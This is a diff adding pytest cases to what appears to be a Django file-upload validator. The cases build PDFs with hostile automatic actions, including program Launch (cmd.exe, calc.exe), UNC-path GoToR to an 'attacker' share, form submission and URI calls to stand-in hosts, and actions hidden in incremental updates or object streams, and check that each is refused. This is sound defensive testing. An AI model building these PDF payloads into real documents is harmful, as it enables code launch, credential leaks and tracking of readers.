@@ -8,6 +8,7 @@ import io
 from collections.abc import Callable
 
 import pytest
+from django.conf import settings as django_settings
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
@@ -170,3 +171,126 @@ def test_the_size_limit_is_a_setting(settings):
     with pytest.raises(ValidationError) as caught:
         check(pdf())
     assert "limit" in str(caught.value.message_dict["file"][0])
+
+
+# Automatic actions other than JavaScript, and actions reaching outside the document ---------
+
+CATALOG = b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>"
+
+
+def open_action(action: bytes) -> bytes:
+    return minimal_pdf(CATALOG % action, PAGE, LEAF)
+
+
+def link_annotation(action: bytes) -> bytes:
+    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>"
+    link = b"<</Type/Annot/Subtype/Link/Rect[10 10 30 30]/A %s>>" % action
+    return minimal_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGE, leaf, link)
+
+
+def incremental_update(base: bytes, *objects: tuple[int, bytes], root: int = 1, startxref: bool = True) -> bytes:
+    """`base` with an incremental update appended after its %%EOF: new or replacing
+    objects and a cross-reference section naming them (with /Prev to the old one)."""
+    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
+    out = base
+    offsets = []
+    for number, body in objects:
+        offsets.append((number, len(out)))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    if not startxref:
+        return out  # the objects alone: only a viewer that rebuilds the table finds them
+    xref = len(out)
+    out += b"xref\n"
+    for number, offset in offsets:
+        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
+    size = max(number for number, _ in objects) + 1
+    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (max(size, 4), root, previous, xref)
+    return out
+
+
+AUTOMATIC_ACTIONS = {
+    "open action to a web address": open_action(b"<</S/URI/URI(https://tracker.example/p)>>"),
+    "open action submitting a form": open_action(b"<</S/SubmitForm/F<</FS/URL/F(https://x.example/)>>>>"),
+    "open action to a UNC path": open_action(b"<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\a.pdf)/D[0/Fit]>>"),
+    "open action importing data": open_action(b"<</S/ImportData/F(data.fdf)>>"),
+    "open action to an embedded file": open_action(b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>"),
+    "open action playing a rendition": open_action(b"<</S/Rendition/OP 0>>"),
+    "open action playing a sound": open_action(b"<</S/Sound/Sound 2 0 R>>"),
+    "open action playing a movie": open_action(b"<</S/Movie/T(m)>>"),
+    "harmless go-to followed by a web address": open_action(
+        b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://x.example/)>>>>"
+    ),
+    "#-escaped submit form": open_action(b"<</S/Subm#69tForm/F(https://x.example/)>>"),
+    "link to another file (UNC path)": link_annotation(b"<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\a.pdf)/D[0/Fit]>>"),
+    "link launching a program": link_annotation(b"<</S/Launch/F(cmd.exe)>>"),
+    "link importing data": link_annotation(b"<</S/ImportData/F(x.fdf)>>"),
+    "sound annotation": minimal_pdf(
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        PAGE,
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Sound/Rect[0 0 9 9]>>]>>",
+    ),
+    # A second catalogue in an update after %%EOF (the newest cross-reference names it).
+    "incremental update adding an open action": incremental_update(
+        TINY_PDF, (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://x.example/)>>>>")
+    ),
+    "incremental update adding a JavaScript catalogue": incremental_update(
+        TINY_PDF, (4, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"), root=4
+    ),
+    # Objects appended without a cross-reference section: pypdf reads the old revision,
+    # a viewer that rebuilds the table reads these.
+    "appended catalogue no cross-reference names": incremental_update(
+        TINY_PDF,
+        (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)>>>>"),
+        startxref=False,
+    ),
+    # An older revision's catalogue (superseded in the newest table) still in the file.
+    "superseded catalogue with a submit form": incremental_update(
+        open_action(b"<</S/SubmitForm/F(https://x.example/)>>"), (1, b"<</Type/Catalog/Pages 2 0 R>>")
+    ),
+}
+
+
+@pytest.mark.parametrize("content", AUTOMATIC_ACTIONS.values(), ids=AUTOMATIC_ACTIONS.keys())
+def test_pdfs_with_actions_reaching_outside_the_document_are_refused(content):
+    with pytest.raises(ValidationError) as caught:
+        check(content)
+    assert len(caught.value.message_dict["file"]) == 1
+
+
+def _object_stream_with(action: bytes) -> bytes:
+    """An open action hidden in a compressed object stream (PDF 1.5), written by pypdf."""
+
+    def build(writer: PdfWriter) -> None:
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(
+            DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(action)})
+        )
+
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    build(writer)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def test_an_open_action_inside_a_compressed_object_stream_is_refused():
+    with pytest.raises(ValidationError):
+        check(_object_stream_with("https://x.example/"))
+
+
+def test_a_web_link_a_reader_clicks_and_a_go_to_page_open_action_are_accepted():
+    assert check(link_annotation(b"<</S/URI/URI(https://www.ipd.gov.hk/)>>")) == "application/pdf"
+    assert check(open_action(b"<</S/GoTo/D[3 0 R/Fit]>>")) == "application/pdf"
+    assert check(incremental_update(TINY_PDF, (1, b"<</Type/Catalog/Pages 2 0 R>>"))) == "application/pdf"
+
+
+def test_images_above_the_pixel_limit_are_refused_before_decoding(settings):
+    settings.MAX_IMAGE_PIXELS = 10_000
+    assert check(image_bytes("PNG", size=(100, 100)), name="ok.png") == "image/png"
+    with pytest.raises(ValidationError) as caught:
+        check(image_bytes("PNG", size=(101, 100)), name="big.png")
+    assert "pixels" in str(caught.value.message_dict["file"][0])
+
+
+def test_pillow_refuses_large_images_everywhere():
+    assert Image.MAX_IMAGE_PIXELS == django_settings.MAX_IMAGE_PIXELS == 40_000_000
